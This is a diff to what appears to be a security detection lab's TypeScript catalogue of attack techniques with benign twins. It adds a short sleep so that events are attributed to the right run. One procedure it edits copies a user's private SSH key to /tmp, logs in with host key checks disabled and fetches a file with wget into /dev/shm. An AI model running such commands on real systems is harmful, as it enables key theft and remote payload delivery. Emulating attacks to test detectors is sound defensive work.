@@ -8,6 +8,8 @@ import { INTERNET } from '../technique-lab.js';
 const { web: WEB } = INTERNET;
 /** Host key checks off, as worms and lateral-movement scripts run ssh. */
 const NO_HOSTKEYS = '-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null';
+/** The lab attributes events to runs by time with 50 ms of slack: the last procedure before a benign twin ends a moment after its last step. */
+const SETTLE = 'sleep 0.2';
 
 export const access: Technique[] = [
   {
@@ -22,7 +24,7 @@ export const access: Technique[] = [
       },
       {
         name: 'stolen key from /tmp, then wget to /dev/shm',
-        script: `install -m 600 /home/alice/.ssh/id_ed25519 /tmp/.k && ssh -i /tmp/.k -o BatchMode=yes ${NO_HOSTKEYS} alice@127.0.0.1 'wget -q -O /dev/shm/.w http://${WEB}/w; id'; rm -f /tmp/.k`,
+        script: `install -m 600 /home/alice/.ssh/id_ed25519 /tmp/.k && ssh -i /tmp/.k -o BatchMode=yes ${NO_HOSTKEYS} alice@127.0.0.1 'wget -q -O /dev/shm/.w http://${WEB}/w; id'; rm -f /tmp/.k; ${SETTLE}`,
       },
     ],
     benign: { name: "alice's key login running uptime", script: 'ssh -o BatchMode=yes alice@127.0.0.1 uptime', user: 'alice' },
